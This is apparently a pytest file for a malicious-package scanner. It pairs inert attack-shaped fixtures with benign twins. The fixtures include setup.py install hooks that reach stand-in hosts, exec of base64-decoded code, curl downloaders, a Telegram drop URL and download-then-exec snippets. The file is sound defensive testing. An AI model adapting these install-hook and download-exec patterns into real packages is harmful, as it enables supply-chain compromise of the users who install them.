"""Each rule: an inert fixture of the attack's shape that hits it, and a benign twin that does not."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

import pytest

from scanner.model import Confidence, RuleId, Severity
from tests.scanner.behaviour.reading import fixtures

if TYPE_CHECKING:
    from scanner.ruleset import Ruleset
    from tests.scanner.behaviour.conftest import Found

MARKER = base64.b64encode(b"print('marker: nothing happens here')").decode()
REPLACED = {
    "@MARKER@": MARKER,
    "@URL@": base64.b64encode(b"https://receiver.invalid/collect/everything/of/it").decode(),
    "@COMMAND@": base64.b64encode(b"echo marker; echo this command is inert").decode(),
    "@DROP@": base64.b64encode(b"https://api.telegram.org/bot1234567890:" + b"A" * 35 + b"/sendMessage").decode(),
    "@DOWNLOADER@": base64.b64encode(b"curl --output marker https://host.invalid/marker").decode(),
    "@SECRET@": "x" * 60,
    "@TOKEN@": "A" * 35,
}
HITS = fixtures("attacks.txt", REPLACED)
BENIGN = fixtures("benign.txt", REPLACED)

SETUP = "from setuptools import setup\n"
HOOK = "from setuptools import setup\nfrom setuptools.command.install import install\n"


@pytest.mark.parametrize(("rule", "source"), HITS)
def test_the_attack_hits_its_rule(rule: str, source: str, found: Found) -> None:
    findings = found(source)
    assert rule in {finding.rule for finding in findings}
    (first, *_) = [finding for finding in findings if finding.rule == rule]
    assert first.line is not None
    assert first.line <= source.count("\n") + 1
    assert first.chain[-1].line == first.line


@pytest.mark.parametrize("source", [s for _, s in BENIGN], ids=[name for name, _ in BENIGN])
def test_the_benign_twin_hits_nothing_severe(source: str, found: Found) -> None:
    severe = {Severity.HIGH, Severity.CRITICAL}
    assert [f.rule for f in found(source) if f.severity in severe and f.confidence != Confidence.LOW] == []


BUILD_HITS = {
    "setup-network": {"pkg-1.0/setup.py": SETUP + "import requests\nrequests.get('https://host.invalid')\nsetup()"},
    "setup-process": {"pkg-1.0/setup.py": SETUP + "import os\nos.system('ls')\nsetup()"},
    "install-hook-network": {
        "pkg-1.0/setup.py": HOOK
        + "import urllib.request\nclass I(install):\n    def run(self):\n        install.run(self)\n"
        "        urllib.request.urlopen('https://host.invalid')\nsetup(cmdclass={'install': I})"
    },
    "install-hook-process": {
        "pkg-1.0/setup.py": HOOK
        + "import os\ndef helper():\n    os.system('ls')\nclass I(install):\n    def run(self):\n        helper()\n"
        "setup(cmdclass={'install': I})"
    },
    "install-hook-code": {
        "pkg-1.0/setup.py": HOOK
        + f"import base64\nclass I(install):\n    def run(self):\n        exec(base64.b64decode('{MARKER}'))\n"
        "setup(cmdclass={'install': I})"
    },
    "install-command-runs-script": {
        "pkg-1.0/setup.py": HOOK + "import os, sys\nclass I(install):\n    def run(self):\n"
        '        os.system(f\'{sys.executable} "{os.path.join(os.path.dirname(__file__), "marker.py")}"\')\n'
        "setup(cmdclass={'install': I})"
    },
    "install-command-runs-program": {
        "pkg-1.0/setup.py": HOOK
        + "import os, subprocess\nclass I(install):\n    def run(self):\n        install.run(self)\n"
        "        subprocess.run([os.path.join(HERE, 'tool', 'marker.exe')])\nsetup(cmdclass={'install': I})"
    },
    "shipped-program-started": {
        "pkg-1.0/setup.py": SETUP + "import os\nos.startfile('tool/helper.exe')\nsetup()",
        "pkg-1.0/tool/helper.exe": "MZ",
    },
}


@pytest.mark.parametrize(("rule", "members"), BUILD_HITS.items(), ids=BUILD_HITS.keys())
def test_what_a_build_script_does_hits_its_rule(rule: str, members: dict[str, str], found: Found) -> None:
    hits = [finding for finding in found(members) if finding.rule == rule]
    assert {(finding.member, finding.role.value) for finding in hits} == {("pkg-1.0/setup.py", "build")}


def test_a_build_script_that_only_builds_hits_nothing(found: Found) -> None:
    source = (
        "import os\nfrom setuptools import Extension, find_packages, setup\n"
        "from setuptools.command.build_ext import build_ext\n"
        "about = {}\nwith open('pkg/version.py') as f:\n    exec(f.read(), about)\n"
        "class B(build_ext):\n    def run(self):\n        self.compiler = None\n        build_ext.run(self)\n"
        "setup(name='pkg', version=about['v'], packages=find_packages(), cmdclass={'build_ext': B},\n"
        "      ext_modules=[Extension('pkg._x', ['x.c'])], long_description=open('README.md').read())"
    )
    assert found({"pkg-1.0/setup.py": source}) == []


def test_an_install_command_that_compiles_is_no_more_than_that(found: Found) -> None:
    source = (
        HOOK + "import subprocess, sys\nclass I(install):\n    def run(self):\n"
        "        subprocess.check_call([sys.executable, 'build.py'])\n"
        "        subprocess.check_call(['nmake.exe', '/f', 'makefile'])\n        install.run(self)\n"
        "setup(cmdclass={'install': I})"
    )
    rules = {finding.rule for finding in found({"pkg-1.0/setup.py": source})}
    assert {rule for rule in rules if rule.startswith("install-")} == {"install-hook-process"}


def test_code_in_a_text_that_an_install_command_runs_is_found(found: Found) -> None:
    source = (
        HOOK + "import subprocess, sys\nTEXT = '\\nimport marker\\nmarker.main()\\n'\nclass I(install):\n"
        "    def run(self):\n        install.run(self)\n        self.after()\n    def after(self):\n"
        "        subprocess.run([sys.executable, '-c', TEXT], timeout=60)\nsetup(cmdclass={'install': I})"
    )
    installing = {finding.rule for finding in found({"pkg-1.0/setup.py": source})}
    building = {finding.rule for finding in found({"pkg-1.0/setup.py": source.replace("install", "build_ext")})}
    assert "install-command-runs-script" in installing
    assert "install-command-runs-script" not in building


def test_a_script_that_a_build_command_runs_is_no_install_command(found: Found) -> None:
    source = (
        "import subprocess, sys\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n"
        "class B(build_py):\n    def run(self):\n        subprocess.run([sys.executable, 'tools/tables.py'])\n"
        "setup(cmdclass={'build_py': B})"
    )
    assert {finding.rule for finding in found({"pkg-1.0/setup.py": source})} == {"install-hook-process"}


MODEL = (
    "import os, torch\nplace = os.path.join(os.path.dirname(__file__), 'model.pt')\ntorch.load(place, weights_only={})"
)


def test_a_shipped_model_that_may_run_code_at_import_is_found(found: Found) -> None:
    loaded = {"pkg/__init__.py": MODEL.format(False), "pkg/model.pt": "marker"}
    assert "unsafe-model-at-import" in {finding.rule for finding in found(loaded)}
    careful = {"pkg/__init__.py": MODEL.format(True), "pkg/model.pt": "marker"}
    assert "unsafe-model-at-import" not in {finding.rule for finding in found(careful)}
    somebody_elses = {"pkg/__init__.py": MODEL.format(False)}
    assert "unsafe-model-at-import" not in {finding.rule for finding in found(somebody_elses)}


STARTED = "import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'data', 'marker.exe')])"


def test_a_program_of_the_package_that_starts_at_import_is_found(found: Found) -> None:
    shipped = {"pkg/__init__.py": STARTED, "pkg/data/marker.exe": "MZ"}
    assert "shipped-program-at-import" in {finding.rule for finding in found(shipped)}
    somebody_elses = {"pkg/__init__.py": STARTED}
    assert "shipped-program-at-import" not in {finding.rule for finding in found(somebody_elses)}
    asked = {"pkg/__init__.py": STARTED.replace("\nsub", "\ndef start():\n    sub"), "pkg/data/marker.exe": "MZ"}
    assert "shipped-program-at-import" not in {finding.rule for finding in found(asked)}


VERSIONER = """
import subprocess
def run(commands, args):
    for command in commands:
        subprocess.Popen([command, *args])
def write(place):
    with open(place, 'w') as f:
        f.write('version = 1.0  # made by a tool, please do not edit')
PLACE = 'pkg/version.py'
write(PLACE)
run(['git.cmd', 'git.exe'], ['describe', PLACE])
"""


def test_a_tool_that_is_only_told_of_a_written_file_is_no_script_that_was_dropped(found: Found) -> None:
    assert "script-dropped-and-run" not in {finding.rule for finding in found(VERSIONER)}


def test_what_runs_by_itself_is_graded_higher_than_what_somebody_must_call(found: Found) -> None:
    body = "import requests\ndef f():\n    exec(requests.get('https://host.invalid').text)\n"
    called, running = found(body), found(body + "f()\n")
    assert {f.severity for f in called if f.rule == "download-exec"} == {Severity.HIGH}
    assert {f.severity for f in running if f.rule == "download-exec"} == {Severity.CRITICAL}


def test_a_chain_names_source_transformation_and_sink_with_their_lines(found: Found) -> None:
    source = f"import base64, zlib\ntext = '{MARKER}'\nraw = base64.b64decode(text)\n\nexec(raw)\n"
    (finding,) = [f for f in found(source) if f.rule == "decode-exec"]
    assert [(step.what, step.line) for step in finding.chain] == [
        ("encoded literal", 2),
        ("decoded by base64.b64decode", 3),
        ("builtins.exec", 5),
    ]
    assert finding.snippet == "exec(raw)"
    assert (finding.line, finding.column) == (5, 1)


def test_every_rule_that_the_table_names_is_described(ruleset: Ruleset) -> None:
    assert {RuleId(rule) for rule, _ in HITS} <= set(ruleset.rules)


def test_every_behaviour_rule_has_a_fixture(ruleset: Ruleset) -> None:
    own = {
        rule.id for rule in ruleset.rules.values() if rule.kind == "behaviour" and not rule.id.startswith("startup-")
    }
    elsewhere = {"unsafe-model-at-import", "shipped-program-at-import"}
    assert own - {rule for rule, _ in HITS} - set(BUILD_HITS) == elsewhere
